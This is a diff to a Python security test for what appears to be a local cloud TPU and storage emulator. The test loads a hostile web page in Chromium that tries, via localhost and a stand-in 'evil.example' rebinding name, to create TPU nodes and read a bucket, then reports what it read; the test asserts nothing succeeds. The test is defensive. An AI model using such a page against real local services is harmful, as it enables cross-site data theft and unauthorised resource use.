@@ -9,7 +9,6 @@ import subprocess
 import tempfile
 import threading
 from collections.abc import Iterator
-from contextlib import contextmanager
 from http.client import HTTPConnection
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
@@ -116,8 +115,8 @@ def test_metadata_servers_know_their_names(rig: Rig):
         assert status_of(address, path, {"Host": host, **flavor}) == 421
 
 
-# A page that does what it can. BASES are addresses of the emulator; those without a host belong to the page's own site, whose
-# name leads to the emulator by then. What could be read is reported, and the page of the next site follows.
+# A page that does what it can at BASES, addresses of the emulator, one of them by a name that somebody made to lead here. What
+# could be read is reported, and the page of the next site follows.
 PAGE = """<!doctype html><body><script>
 const next = {"localhost": "127.0.0.1", "127.0.0.1": "evil.example"}[location.hostname];
 const body = JSON.stringify({acceleratorType: "v3-8", runtimeVersion: "tpu-ubuntu2204-base",
@@ -169,7 +168,7 @@ async function attack(base, number) {
     } catch {}
 }
 (async () => {
-  await Promise.all(BASES.filter(base => base.startsWith("http") || !next).map(attack));
+  await Promise.all(BASES.map(attack));
   await fetch("/report", {method: "POST", body: JSON.stringify({host: location.hostname, read})});
   if (next) location = location.href.replace(location.hostname, next);
 })();
@@ -184,52 +183,30 @@ FLAGS = (
 
 
 class Site(ThreadingHTTPServer):
-    """A site of many names; of all but its page it knows nothing and asks the emulator, so that it is the same site."""
+    """A site of many names, with one page."""
 
-    def __init__(self, emulator: str, page: str):
+    def __init__(self, page: str):
         super().__init__(("127.0.0.1", 0), Visit)
-        self.emulator, self.page = emulator, page.encode()
+        self.page = page.encode()
         self.reports: dict[str, list[str]] = {}
         self.changed = threading.Condition()
-
-    @contextmanager
-    def open(self) -> Iterator[int]:
-        thread = threading.Thread(target=self.serve_forever, args=(0.05,))
-        thread.start()
-        try:
-            yield self.server_port
-        finally:
-            self.shutdown()
-            self.server_close()
-            thread.join()
 
 
 class Visit(BaseHTTPRequestHandler):
     server: Site  # pyright: ignore[reportIncompatibleVariableOverride]
 
-    def answer(self) -> None:
-        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
-        if self.path == "/page":
-            status, kind, content = 200, "text/html", self.server.page
-        elif self.path == "/report":
-            status, kind, content = 200, "text/plain", b""
-            with self.server.changed:
-                report = json.loads(body)
-                self.server.reports[report["host"]] = report["read"]
-                self.server.changed.notify()
-        else:
-            connection = HTTPConnection(self.server.emulator, timeout=30)
-            connection.request(self.command, self.path, body, dict(self.headers.items()))
-            answer = connection.getresponse()
-            status, kind, content = answer.status, answer.headers.get("Content-Type", ""), answer.read()
-            connection.close()
-        self.send_response(status)
-        self.send_header("Content-Type", kind)
-        self.send_header("Content-Length", str(len(content)))
+    def do_GET(self) -> None:
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html")
         self.end_headers()
-        self.wfile.write(content)
+        self.wfile.write(self.server.page)
 
-    do_GET = do_POST = do_PUT = do_DELETE = do_OPTIONS = answer  # noqa: N815
+    def do_POST(self) -> None:
+        report = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
+        self.do_GET()
+        with self.server.changed:
+            self.server.reports[report["host"]] = report["read"]
+            self.server.changed.notify()
 
     def log_message(self, format: str, *args: object) -> None:
         pass
@@ -243,14 +220,14 @@ def test_pages_of_other_sites_do_and_read_nothing(rig: Rig, tmp_path: Path):
     put = {"uploadType": "media", "name": "kept"}
     requests.post(f"{rig.emulator.url}/upload/{BUCKET}/o", params=put, data=b"only for me", timeout=30).raise_for_status()
     url, mark = urlsplit(rig.emulator.url), tmp_path / "a-script-ran"
-    bases = [
-        f"{site}{path}" for site in ("", f"http://{url.netloc}", f"http://localhost:{url.port}") for path in ("", url.path)
-    ]
+    names = ("127.0.0.1", "localhost", "evil.example")
+    bases = [f"http://{name}:{url.port}{path}" for name in names for path in ("", url.path)]
     page = PAGE.replace("BASES", json.dumps(bases)).replace("PLACE", PLACE).replace("BUCKET", BUCKET).replace("MARK", str(mark))
-    site = Site(url.netloc, page)
+    site = Site(page)
+    threading.Thread(target=site.serve_forever, args=(0.05,), daemon=True).start()
     # A short path: Chromium's sockets lie there, whose names end at 107 bytes.
-    with tempfile.TemporaryDirectory(prefix="tpulm-", dir="/tmp", ignore_cleanup_errors=True) as home, site.open() as port:
-        command = [CHROMIUM, *FLAGS, f"--user-data-dir={home}/profile", f"http://localhost:{port}/page"]
+    with tempfile.TemporaryDirectory(prefix="tpulm-", dir="/tmp", ignore_cleanup_errors=True) as home, site:
+        command = [CHROMIUM, *FLAGS, f"--user-data-dir={home}/profile", f"http://localhost:{site.server_port}/page"]
         environment = {**os.environ, "HOME": home, "TMPDIR": home}
         browser = subprocess.Popen(command, env=environment, stdin=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
         try:
@@ -259,6 +236,7 @@ def test_pages_of_other_sites_do_and_read_nothing(rig: Rig, tmp_path: Path):
         finally:
             browser.kill()
             browser.wait()
+            site.shutdown()
     assert not any(site.reports.values()), site.reports
     assert not rig.tpu.nodes() and not mark.exists()
     status = requests.get(f"{rig.emulator.url}/_control/status", timeout=30).json()
